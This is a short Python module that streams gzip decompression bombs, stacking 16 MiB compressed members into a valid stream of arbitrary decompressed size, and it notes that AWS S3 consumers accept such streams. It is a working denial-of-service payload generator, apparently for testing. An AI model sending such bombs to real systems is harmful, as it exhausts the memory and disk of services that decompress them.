"""Decompression bombs, generated in a streaming way (nothing the size of the payload is ever written)."""

from __future__ import annotations

import gzip
from collections.abc import Iterator

MEMBER_BYTES = 16 * 1024 * 1024


def gzip_member(payload_byte: bytes, prefix: bytes = b"") -> bytes:
    """One gzip member: `prefix` then 16 MiB of `payload_byte`, compressed (about 16 KB)."""
    return gzip.compress(prefix + payload_byte * (MEMBER_BYTES - len(prefix)), compresslevel=9)


def gzip_bomb(total_bytes: int, payload_byte: bytes = b"\0", prefix: bytes = b"") -> Iterator[bytes]:
    """A valid multi-member gzip stream that decompresses to `total_bytes` (a multiple of 16 MiB):
    every gzip reader (and AWS's S3 consumers) treats concatenated members as one stream."""
    yield gzip_member(payload_byte, prefix)
    rest = gzip_member(payload_byte)
    for _ in range(total_bytes // MEMBER_BYTES - 1):
        yield rest
